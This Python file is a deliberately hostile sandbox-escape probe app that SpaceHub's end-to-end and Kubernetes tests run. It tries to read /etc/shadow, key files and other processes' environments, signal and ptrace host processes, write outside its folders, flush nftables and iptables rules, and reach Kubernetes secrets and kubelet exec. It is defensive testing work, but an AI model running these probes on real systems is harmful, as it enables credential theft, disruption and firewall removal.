"""A hostile Space app (issue 7): on ``GET /report`` it tries every way out of its sandbox it knows, and reports.

Standard library only; uploaded as ``app.py`` of a plain-Python Space (``sdk: gradio`` without gradio, as
examples/spaces/python-http) and, copied by a Dockerfile, of a docker Space. What it knows of the host comes from
the Space's variables, set by the test (tests/e2e/test_hostile.py), which knows its host:

- ``HOSTILE_DATA_DIR``, ``HOSTILE_SOURCE_DIR``: SpaceHub's data dir and source checkout (host paths);
- ``HOSTILE_FILES``: exact host paths of files worth stealing (keys, the database, the victim's code and launch.json);
  ``HOSTILE_HOME_FILES``: files of the host user's home;
- ``HOSTILE_VICTIM_PORT``, ``HOSTILE_VICTIM_HOST``, ``HOSTILE_VICTIM_ID``: the victim Space's host port (from its
  launch.json), its host name at the proxy and its repo id; ``HOSTILE_VICTIM_KEY``: the name of the victim's secret;
- ``HOSTILE_HUB_PORT``: SpaceHub's listen port; ``HOSTILE_HOST_ADDRS``: the host's other (non-loopback) addresses;
- ``HOSTILE_HOST_PIDS``: host pids of other processes (the victim, its supervisor, SpaceHub);
- ``HOSTILE_LISTEN_PORT``: a port to listen on at 0.0.0.0 (the test then looks for it from the host);
- ``HOSTILE_OWN_DIRS``: folders that are the app's own to write (a docker Space's code is in its own image);
- on Kubernetes (tests/k8s/test_pod_hostile.py) only: ``HOSTILE_KUBE_API``, the API server's URLs (comma-separated),
  ``HOSTILE_KUBELETS``, the kubelets' ``host:port``s, and ``HOSTILE_NAMESPACE``, the Spaces' namespace; with them the
  report has the Kubernetes attempts too (``kubernetes_attempts``), and first the attempts to undo the pod's own
  firewall (``firewall_attempts``: netfilter over netlink, a raw socket, iptables itself);
- ``HOSTILE_PEERS``: more ``host:port``s to connect to (the victim pod's IP and app port, the cloud's metadata
  service), as ``reach_peers``.

The report: ``{"attempts": {name: {"ok": bool, "detail": str}}, "identity": {...}, "hub": {...}, "listening":
{...}, "kill_all": str}``. ``ok`` is true when the attempt *succeeded*, i.e. when the sandbox failed. ``listening``
and ``kill_all`` are judged from the host (a listener in the sandbox's own namespace is fine; what counts is whether
the host sees it, and whether anything outside died).
"""

import ctypes
import errno
import json
import os
import resource
import signal
import socket
import sys
import threading
import time
import traceback
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT = int(os.environ.get("PORT", "7860"))
HOST = os.environ.get("GRADIO_SERVER_NAME", "0.0.0.0")
ENV = os.environ
DATA_DIR = ENV.get("HOSTILE_DATA_DIR", "/nonexistent-data-dir")
SOURCE_DIR = ENV.get("HOSTILE_SOURCE_DIR", "/nonexistent-source-dir")
FILES = [p for p in ENV.get("HOSTILE_FILES", "").split(",") if p]
HOME_FILES = [p for p in ENV.get("HOSTILE_HOME_FILES", "").split(",") if p]
OWN_DIRS = [p for p in ENV.get("HOSTILE_OWN_DIRS", "").split(",") if p]  # writable by right (a container's own files)
VICTIM_PORT = int(ENV.get("HOSTILE_VICTIM_PORT", "0"))
VICTIM_HOST = ENV.get("HOSTILE_VICTIM_HOST", "")
VICTIM_ID = ENV.get("HOSTILE_VICTIM_ID", "")
VICTIM_KEY = ENV.get("HOSTILE_VICTIM_KEY", "")
HUB_PORT = int(ENV.get("HOSTILE_HUB_PORT", "0"))
HOST_ADDRS = [a for a in ENV.get("HOSTILE_HOST_ADDRS", "").split(",") if a]
HOST_PIDS = [int(p) for p in ENV.get("HOSTILE_HOST_PIDS", "").split(",") if p]
LISTEN_PORT = int(ENV.get("HOSTILE_LISTEN_PORT", "0"))
KUBE_API = [u for u in ENV.get("HOSTILE_KUBE_API", "").split(",") if u]
KUBELETS = [k for k in ENV.get("HOSTILE_KUBELETS", "").split(",") if k]
NAMESPACE = ENV.get("HOSTILE_NAMESPACE", "default")
PEERS = [p.rsplit(":", 1) for p in ENV.get("HOSTILE_PEERS", "").split(",") if p]
SERVICE_ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
FETCH_TOKEN = "/var/run/spacehub/fetch/token"  # mounted in the fetch init container only (manifests.TOKEN_PATH)
NONCE = os.urandom(6).hex()
# slirp4netns's address of the host (its loopback, unless disabled); a pod has no slirp4netns: there it is whatever
# 10.0.2.2 is outside, so the pod test gives none (HOSTILE_SLIRP_HOST empty)
SLIRP_HOST = ENV.get("HOSTILE_SLIRP_HOST", "10.0.2.2")
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000
PTRACE_ATTACH = 16
LIBC = ctypes.CDLL(None, use_errno=True)
LOCK = threading.Lock()
IGNORE_TERM_UNTIL = [0.0]  # kill(-1, SIGTERM) reaches our own init, which passes SIGTERM back to us: ride it out
TERM_SEEN = threading.Event()
KEEP: list[socket.socket] = []
LISTENING: dict[
    str, str
] = {}  # what listen_anywhere() did (once)  # the 0.0.0.0 listener stays open, so that the host can look for it


def attempt(ok: bool, detail: object) -> dict[str, object]:
    text = detail if isinstance(detail, str) else json.dumps(detail, default=str)
    return {"ok": bool(ok), "detail": text}


def why(e: BaseException) -> str:
    code = getattr(e, "errno", None)
    name = errno.errorcode.get(code, "") if isinstance(code, int) else ""
    return f"{type(e).__name__}{' ' + name if name else ''}"


def read(path: str, limit: int = 200) -> tuple[bool, str]:
    try:
        if os.path.isdir(path):
            return True, f"listed {sorted(os.listdir(path))[:20]}"
        with open(path, "rb") as f:
            data = f.read(1 << 20)
        return True, f"read {len(data)} bytes: {data[:limit]!r}"
    except OSError as e:
        return False, why(e)


def reads(paths: list[str]) -> dict[str, object]:
    out = {p: read(p) for p in paths}
    return attempt(any(ok for ok, _ in out.values()), {p: d for p, (_, d) in out.items()})


def pids() -> list[int]:
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def cmdline(pid: int) -> list[str]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError as e:
        return [f"({why(e)})"]


def ours(pid: int, args: list[str]) -> bool:
    """A process of this sandbox: the PID namespace's first process (bwrap's reaper; podman's init in a container),
    SpaceHub's init in the sandbox, this app and its children. Without a PID namespace of our own, pid 1 would be
    the host's init, and every other process of the host would be visible and foreign."""
    if pid in (1, os.getpid()):
        return True
    if any(a.endswith("/run/spacehub/init.py") for a in args):
        return True
    try:
        with open(f"/proc/{pid}/stat") as f:
            ppid = int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return False
    return ppid == os.getpid()


def identity() -> dict[str, object]:
    with open("/proc/self/status") as f:
        status = dict(line.split(":", 1) for line in f.read().splitlines() if ":" in line)
    out: dict[str, object] = {k: status.get(k, "").strip() for k in ("CapEff", "CapPrm", "NoNewPrivs", "Seccomp")}
    out |= {"uid": os.getuid(), "gid": os.getgid(), "euid": os.geteuid(), "Uid": status.get("Uid", "").split()}
    try:
        interfaces = sorted(name for _, name in socket.if_nameindex())
    except OSError as e:
        interfaces = [why(e)]
    out |= {"hostname": socket.gethostname(), "interfaces": interfaces}
    return out


def connect(host: str, port: int, request: bytes | None = None) -> tuple[bool, str]:
    """Connect (and send ``request``, answering the first bytes of the reply)."""
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            if request is None:
                return True, "connected"
            s.sendall(request)
            s.settimeout(5)
            data = s.recv(400)
            return True, f"connected, answer {data[:300]!r}"
    except OSError as e:
        return False, why(e)


def http_get(host: str, port: int, host_header: str) -> bytes:
    return f"GET / HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n".encode()


def hub_request(path: str, headers: dict[str, str] | None = None, timeout: float = 20) -> tuple[int, str]:
    req = urllib.request.Request(ENV["HF_ENDPOINT"].rstrip("/") + path, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, r.read(2000).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(300).decode(errors="replace")
    except Exception as e:
        return -1, repr(e)


# ---- the attempts --------------------------------------------------------------------------------------------
def files_attempts() -> dict[str, dict[str, object]]:
    runtime = os.path.join(DATA_DIR, "runtime")
    out = {
        "read_data_dir": reads([DATA_DIR, os.path.join(DATA_DIR, "repos"), os.path.join(DATA_DIR, "spaces")]),
        "read_key_files": reads([os.path.join(DATA_DIR, n) for n in ("secrets.key", "runtime-id.key")]),
        "read_database": reads([os.path.join(DATA_DIR, "spacehub.db")]),
        "read_builds": reads([os.path.join(runtime, "builds")]),
        "read_instances": reads([os.path.join(runtime, "instances")]),
        "read_named_files": reads(FILES),
        "read_source": reads([SOURCE_DIR, os.path.join(SOURCE_DIR, "README.md"), os.path.join(SOURCE_DIR, ".venv")]),
        "read_host_homes": host_homes(),
    }
    # The launch.json of every instance, as a glob of the host path would find them.
    try:
        found = [n for n in os.listdir(os.path.join(runtime, "instances"))]
        out["read_launch_json"] = reads([os.path.join(runtime, "instances", n, "launch.json") for n in found])
    except OSError as e:
        out["read_launch_json"] = attempt(False, why(e))
    # Through another process's view of the filesystem: /proc/PID/root and cwd of every visible process.
    via = {}
    for pid in pids():
        for sub in ("root", "cwd"):
            base = f"/proc/{pid}/{sub}"
            via[f"{base}{DATA_DIR}/secrets.key"] = read(f"{base}{DATA_DIR}/secrets.key")
    out["read_via_proc_root"] = attempt(any(ok for ok, _ in via.values()), {p: d for p, (_, d) in via.items()})
    return out


def host_homes() -> dict[str, object]:
    """The host's home folders: the files named by HOME_FILES (the test's picks from its own home), other users'
    folders under /home (ours is /home/user), and /etc/shadow."""
    res = {p: read(p) for p in [*HOME_FILES, "/etc/shadow"]}
    try:
        others = [n for n in os.listdir("/home") if n != "user"]
    except OSError as e:
        others, res["/home"] = [], (False, why(e))
    listing = {p: read(p)[1] for p in ("/root", "/home")}
    ok = bool(others) or any(ok for ok, _ in res.values())
    return attempt(ok, {"files": {p: d for p, (_, d) in res.items()}, "other homes": others, "listings": listing})


def find_victim_files(budget: float = 15.0) -> dict[str, object]:
    """Walk the whole visible filesystem (but /proc, /sys, /dev and /usr) for a file that names the victim."""
    if not VICTIM_ID:
        return attempt(False, "no victim id given")
    needle, hits, seen, deadline = VICTIM_ID.encode(), [], 0, time.monotonic() + budget
    for top, dirs, names in os.walk("/", onerror=lambda e: None):
        if top == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
        for name in names:
            path = os.path.join(top, name)
            seen += 1
            try:
                if not os.path.isfile(path) or os.path.islink(path):
                    continue
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            at = data.find(needle)
            if at >= 0:
                hits.append(f"{path}: {data[max(0, at - 200) : at + 200]!r}")
        if time.monotonic() > deadline:
            return attempt(bool(hits), {"files_seen": seen, "hits": hits[:20], "stopped": f"after {budget}s"})
    return attempt(bool(hits), {"files_seen": seen, "hits": hits[:20]})


def process_attempts() -> dict[str, dict[str, object]]:
    out = {}
    visible = {pid: cmdline(pid) for pid in pids()}
    foreign = {pid: args for pid, args in visible.items() if not ours(pid, args)}
    out["see_other_processes"] = attempt(bool(foreign), {"visible": visible, "foreign": foreign})
    # Every visible process's environment: anything there that is not ours, and the victim's secret by name.
    own = {f"{k}={v}" for k, v in os.environ.items()}
    found, errors = {}, {}
    for pid in visible:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                entries = [e.decode(errors="replace") for e in f.read().split(b"\0") if e]
        except OSError as e:
            errors[pid] = why(e)
            continue
        other = [e for e in entries if e not in own]
        if other:
            found[pid] = other
    victim = [pid for pid, entries in found.items() if any(e.startswith(VICTIM_KEY + "=") for e in entries)]
    readable = [pid for pid in foreign if pid not in errors]
    out["read_other_environ"] = attempt(
        bool(victim or readable),
        {"foreign_entries": found, "errors": errors, "victim_secret_in": victim, "foreign_readable": readable},
    )
    # Signals: 0 to every visible pid (our own: fine) and to the host's pids, SIGTERM to the host's pids.
    zero = {}
    for pid in visible:
        try:
            os.kill(pid, 0)
            zero[pid] = "signalled"
        except OSError as e:
            zero[pid] = why(e)
    hit, tries = [], {}
    for pid in HOST_PIDS:
        if pid in visible:
            tries[pid] = "that number is one of our own processes here: not signalled"
            continue
        for sig in (0, signal.SIGTERM):
            try:
                os.kill(pid, sig)
                tries[f"{pid}/{int(sig)}"] = "signalled"
                hit.append(pid)
            except OSError as e:
                tries[f"{pid}/{int(sig)}"] = why(e)
    out["signal_host_pids"] = attempt(bool(hit), {"own_pids_signal_0": zero, "host_pids": tries})
    # ptrace (refused by the seccomp filter): attach to the sandbox's first process and to our parent.
    res = {}
    for pid in sorted({1, os.getppid()}):
        rc = LIBC.ptrace(PTRACE_ATTACH, pid, None, None)
        res[pid] = "attached" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
        if rc == 0:
            LIBC.ptrace(17, pid, None, None)  # PTRACE_DETACH
    out["ptrace"] = attempt(any(v == "attached" for v in res.values()), res)
    return out


def write_attempts() -> dict[str, object]:
    targets = ["/", "/etc", "/usr", "/usr/lib", "/home/user/app", "/opt/venv", "/run/spacehub", DATA_DIR,
               os.path.join(DATA_DIR, "runtime"), os.path.join(DATA_DIR, "repos"), SOURCE_DIR, "/root"]  # fmt: skip
    made, res = [], {}
    for folder in [t for t in targets if t not in OWN_DIRS]:
        path = os.path.join(folder, f"hostile-was-here-{NONCE}")
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
            os.write(fd, b"pwned\n")
            os.close(fd)
            made.append(path)
            res[path] = "written"
        except OSError as e:
            res[path] = why(e)
    return attempt(bool(made), {"written": made, "tried": res})


def unshare_in_child(flag: int) -> str:
    """unshare(flag); when a user namespace was made, what it then gives: capabilities in it, and with them mount and
    network namespaces of our own and a mount (the kernel attack surface that refusing nested user namespaces
    closes)."""
    if LIBC.unshare(flag) != 0:
        return errno.errorcode.get(ctypes.get_errno(), "?")
    if flag != CLONE_NEWUSER:
        return "unshared"
    with open("/proc/self/status") as f:
        caps = [line.split()[1] for line in f if line.startswith("CapEff:")]
    then = f"unshared (CapEff in it {caps[0] if caps else '?'})"
    if LIBC.unshare(CLONE_NEWNS | CLONE_NEWNET) != 0:
        return then + f"; then mount+net namespaces: {errno.errorcode.get(ctypes.get_errno(), '?')}"
    then += "; then mount+net namespaces: unshared"
    rc = LIBC.mount(b"none", b"/tmp/hostile-mnt", b"tmpfs", 0, None)
    return then + f"; then mount tmpfs: {'mounted' if rc == 0 else errno.errorcode.get(ctypes.get_errno(), '?')}"


def kernel_attempts() -> dict[str, dict[str, object]]:
    out = {}
    os.makedirs("/tmp/hostile-mnt", exist_ok=True)
    rc = LIBC.mount(b"none", b"/tmp/hostile-mnt", b"tmpfs", 0, None)
    err = ctypes.get_errno()
    out["mount_tmpfs"] = attempt(rc == 0, "mounted" if rc == 0 else errno.errorcode.get(err, str(err)))
    res = {}
    for name, flag in (("CLONE_NEWUSER", CLONE_NEWUSER), ("CLONE_NEWNS", CLONE_NEWNS), ("CLONE_NEWNET", CLONE_NEWNET)):
        # In a child: a success must not change this process.
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            os.write(w, unshare_in_child(flag).encode())
            os._exit(0)
        os.close(w)
        res[name] = os.read(r, 1000).decode()
        os.close(r)
        os.waitpid(pid, 0)
    out["unshare"] = attempt(any(v.startswith("unshared") for v in res.values()), res)
    for name in ("RLIMIT_NPROC", "RLIMIT_NOFILE"):
        which = getattr(resource, name)
        soft, hard = resource.getrlimit(which)
        if hard == resource.RLIM_INFINITY:
            out[f"raise_{name}"] = attempt(False, f"hard limit is unlimited ({soft}, {hard}): nothing above it")
            continue
        try:
            resource.setrlimit(which, (hard + 1000, hard + 1000))
            out[f"raise_{name}"] = attempt(True, f"raised from {hard} to {resource.getrlimit(which)}")
        except (OSError, ValueError) as e:
            out[f"raise_{name}"] = attempt(False, f"hard {hard}: {why(e)}")
    return out


def network_attempts() -> dict[str, dict[str, object]]:
    out = {}
    addrs = ["127.0.0.1", *([SLIRP_HOST] if SLIRP_HOST else []), *HOST_ADDRS]
    # The victim's host port, and its page without the proxy. In a network namespace of our own, 127.0.0.1 at our own
    # port is us (in pods every Space listens on the same port): not tried.
    res = {f"{a}:{VICTIM_PORT}": connect(a, VICTIM_PORT, http_get(a, VICTIM_PORT, VICTIM_HOST)) for a in addrs
           if not (a == "127.0.0.1" and VICTIM_PORT == PORT)}  # fmt: skip
    out["reach_victim_port"] = attempt(any(ok for ok, _ in res.values()), {k: d for k, (ok, d) in res.items()})
    # SpaceHub's own listen port anywhere but the forwarded Hub URL (127.0.0.1:HUB_PORT in the sandbox is the Hub,
    # by design; see below).
    res = {f"{a}:{HUB_PORT}": connect(a, HUB_PORT) for a in addrs if a != "127.0.0.1"}
    out["reach_spacehub_listener"] = attempt(any(ok for ok, _ in res.values()), {k: d for k, (ok, d) in res.items()})
    # The victim through the Hub URL we are given: the proxy refuses a private Space, anonymously and with our token.
    anon = hub_request("/", {"Host": VICTIM_HOST}, timeout=10)
    mine = hub_request("/", {"Host": VICTIM_HOST, "Authorization": f"Bearer {ENV.get('HF_TOKEN', '')}"}, timeout=10)
    api = hub_request(f"/api/spaces/{VICTIM_ID}", {"Authorization": f"Bearer {ENV.get('HF_TOKEN', '')}"})
    secrets = hub_request(f"/api/spaces/{VICTIM_ID}/secrets", {"Authorization": f"Bearer {ENV.get('HF_TOKEN', '')}"})
    out["victim_through_proxy"] = attempt(
        anon[0] == 200 or mine[0] == 200,
        {"anonymous": [anon[0], anon[1][:300]], "own token": [mine[0], mine[1][:300]]},
    )
    out["victim_through_api"] = attempt(
        api[0] == 200 or secrets[0] == 200, {"info": [api[0], api[1][:300]], "secrets": [secrets[0], secrets[1][:300]]}
    )
    if PEERS:  # other pods and hosts: the victim pod's own address, the cloud's metadata service
        res = {f"{h}:{p}": connect(h, int(p), http_get(h, int(p), VICTIM_HOST)) for h, p in PEERS}
        out["reach_peers"] = attempt(any(ok for ok, _ in res.values()), {k: d for k, (ok, d) in res.items()})
    return out


def firewall_attempts() -> dict[str, dict[str, object]]:
    """Undo the pod's own netfilter rules (its firewall init container's): nf_tables' netlink API (what
    ``nft flush ruleset`` and iptables-nft use) asked to delete the filter table, a raw socket (iptables-legacy's
    way in), and iptables itself if the image has it. Each needs CAP_NET_ADMIN (and the raw socket CAP_NET_RAW) in
    the pod's network namespace, which the app does not have. Run before the network attempts, so that if one
    worked they would show it."""
    import shutil
    import struct
    import subprocess

    out: dict[str, object] = {}
    ok = False
    # nfnetlink: a batch [begin, NFT_MSG_DELTABLE "filter" of NFPROTO_IPV4, end], with an ack asked for
    NETLINK_NETFILTER, NFNL_SUBSYS_NFTABLES, NFT_MSG_DELTABLE = 12, 10, 2
    NLM_F_REQUEST, NLM_F_ACK, NLMSG_ERROR = 1, 4, 2

    def message(kind: int, seq: int, family: int, payload: bytes = b"", res_id: int = 0) -> bytes:
        body = struct.pack("=BB", family, 0) + struct.pack("!H", res_id) + payload
        return struct.pack("=IHHII", 16 + len(body), kind, NLM_F_REQUEST | NLM_F_ACK, seq, 0) + body

    name = b"filter\0"
    attr = struct.pack("=HH", 4 + len(name), 1) + name + b"\0" * (-len(name) % 4)  # NFTA_TABLE_NAME
    batch = (message(0x10, 1, 0, res_id=NFNL_SUBSYS_NFTABLES)
             + message((NFNL_SUBSYS_NFTABLES << 8) | NFT_MSG_DELTABLE, 2, 2, attr)
             + message(0x11, 3, 0, res_id=NFNL_SUBSYS_NFTABLES))  # fmt: skip
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER) as s:
            s.settimeout(5)
            s.sendto(batch, (0, 0))
            acks: dict[int, int] = {}  # seq → its ack's error (0, or minus an errno)
            while not any(e < 0 for e in acks.values()) and 2 not in acks:
                data, at = s.recv(65536), 0
                while at + 20 <= len(data):
                    length, kind, _, seq, _ = struct.unpack_from("=IHHII", data, at)
                    if kind == NLMSG_ERROR:
                        acks[seq] = struct.unpack_from("=i", data, at + 16)[0]
                    at += max(16, (length + 3) & ~3)
            refused = next((e for e in acks.values() if e < 0), 0)
            if refused:  # without CAP_NET_ADMIN: the first message's ack, and the batch is dropped
                out["nf_tables delete table"] = f"refused: {errno.errorcode.get(-refused, str(-refused))}"
            else:
                ok = True
                out["nf_tables delete table"] = f"deleted (acks {acks})"
    except OSError as e:
        out["nf_tables delete table"] = why(e)
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        raw.close()
        ok = True
        out["raw socket"] = "opened"
    except OSError as e:
        out["raw socket"] = why(e)
    for tool in ("iptables", "iptables-nft", "iptables-legacy", "nft"):
        path = shutil.which(tool)
        if path:
            flush = [path, "flush", "ruleset"] if tool == "nft" else [path, "-F"]
            proc = subprocess.run(flush, capture_output=True, text=True, timeout=10)
            ok |= proc.returncode == 0
            out[tool] = f"exit {proc.returncode}: {proc.stderr.strip()[:200]}"
        else:
            out[tool] = "not in the image"
    return {"undo_firewall": attempt(ok, out)}


def https_get(url: str) -> tuple[int, str]:
    """GET ``url`` without credentials and without checking the certificate (what an attacker would do)."""
    import ssl

    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    try:
        with urllib.request.urlopen(url, timeout=5, context=ctx) as r:
            return r.status, r.read(300).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(200).decode(errors="replace")
    except Exception as e:
        return -1, why(e) if isinstance(e, OSError) else repr(e)[:200]


def kubernetes_attempts() -> dict[str, dict[str, object]]:
    """In a pod: the service account's token (never mounted), the fetch token (the fetch init container's only), the
    API server's Secrets and the kubelets' pod lists and exec, anonymously."""
    out = {
        "read_service_account": reads([SERVICE_ACCOUNT, f"{SERVICE_ACCOUNT}/token", f"{SERVICE_ACCOUNT}/namespace"]),
        "read_fetch_token": reads([FETCH_TOKEN, os.path.dirname(FETCH_TOKEN)]),
    }
    res = {}
    for base in KUBE_API:
        for path in (f"/api/v1/namespaces/{NAMESPACE}/secrets", "/api/v1/secrets", "/api/v1/nodes"):
            res[base + path] = https_get(base + path)
    out["kube_api"] = attempt(any(c == 200 for c, _ in res.values()), {u: [c, d[:200]] for u, (c, d) in res.items()})
    res = {}
    for kubelet in KUBELETS:
        for path in ("/pods", "/runningpods/", "/configz", f"/run/{NAMESPACE}/x/app?cmd=id"):
            res[f"https://{kubelet}{path}"] = https_get(f"https://{kubelet}{path}")
    read_only = {}  # the kubelet's unauthenticated read-only port
    for host in {k.rsplit(":", 1)[0] for k in KUBELETS}:
        read_only[f"{host}:10255"] = connect(host, 10255, b"GET /pods HTTP/1.0\r\n\r\n")
    out["kubelet_api"] = attempt(
        any(c == 200 for c, _ in res.values()) or any(ok for ok, _ in read_only.values()),
        {"https": {u: [c, d[:200]] for u, (c, d) in res.items()}, "read-only port": read_only},
    )
    return out


def listen_anywhere() -> dict[str, object]:
    """Listen on 0.0.0.0:LISTEN_PORT (and [::]); the host then tries to connect to it."""
    if LISTENING:
        return {"port": LISTEN_PORT, "detail": LISTENING}
    res = LISTENING
    for family, addr in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            if family == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((addr, LISTEN_PORT))
            s.listen(16)
            KEEP.append(s)
            threading.Thread(target=accept_forever, args=(s,), daemon=True).start()
            res[addr] = "listening"
        except OSError as e:
            res[addr] = why(e)
    return {"port": LISTEN_PORT, "detail": res}


def accept_forever(s: socket.socket) -> None:
    while True:
        try:
            conn, _ = s.accept()
        except OSError:
            return
        try:
            conn.sendall(b"HTTP/1.0 200 OK\r\n\r\nhostile listener\n")
        finally:
            conn.close()


def kill_all() -> str:
    """kill(-1, SIGTERM): every process we may signal. In a PID namespace of our own that is only SpaceHub's init in
    the sandbox (the caller and the namespace's first process are spared), which passes it back to us: we wait for
    it (ignored), so that the host can then see that we still serve. In a container there is no one else (ESRCH)."""
    TERM_SEEN.clear()
    IGNORE_TERM_UNTIL[0] = time.monotonic() + 30
    try:
        os.kill(-1, signal.SIGTERM)
    except OSError as e:
        return f"kill(-1, SIGTERM): {why(e)}"
    back = TERM_SEEN.wait(10)
    return f"kill(-1, SIGTERM) returned; SIGTERM came back to us: {back}"


def whoami() -> dict[str, object]:
    token = ENV.get("HF_TOKEN", "")
    code, body = hub_request("/api/whoami-v2", {"Authorization": f"Bearer {token}"})
    try:
        name = json.loads(body).get("name") if code == 200 else None
    except ValueError:
        name = None
    return {"endpoint": ENV.get("HF_ENDPOINT"), "status": code, "name": name, "body": body[:300]}


def report() -> dict[str, object]:
    attempts: dict[str, dict[str, object]] = {}
    listening = listen_anywhere()
    attempts |= files_attempts()
    attempts["find_victim_files"] = find_victim_files()
    attempts |= process_attempts()
    attempts["write_outside"] = write_attempts()
    attempts |= kernel_attempts()
    if KUBE_API or KUBELETS:
        attempts |= firewall_attempts()
    attempts |= network_attempts()
    if KUBE_API or KUBELETS:
        attempts |= kubernetes_attempts()
    return {
        "attempts": attempts,
        "identity": identity(),
        "hub": whoami(),
        "listening": listening,
        "kill_all": kill_all(),
        "pid": os.getpid(),
        "nonce": NONCE,
    }


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        print(f"hostile: GET {self.path} from {self.client_address}", flush=True)
        if self.path == "/report":
            with LOCK:
                try:
                    body = report()
                except Exception:  # a broken probe must say so, never look like a clean report
                    body = {"error": traceback.format_exc()}
        else:  # "/" (the runtime's readiness probe GETs it too) and "/ping": alive
            body = {"alive": True, "pid": os.getpid()}
        data = json.dumps(body, default=str).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        pass


def on_term(signum: int, frame: object) -> None:
    if time.monotonic() < IGNORE_TERM_UNTIL[0]:
        TERM_SEEN.set()
        print("hostile: SIGTERM ignored (our own kill(-1))", flush=True)
        return
    signal.signal(signal.SIGTERM, signal.SIG_DFL)
    os.kill(os.getpid(), signal.SIGTERM)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, on_term)
    print(f"hostile app on {HOST}:{PORT} (pid {os.getpid()}, Python {sys.version.split()[0]})", flush=True)
    ThreadingHTTPServer((HOST, PORT), Handler).serve_forever()
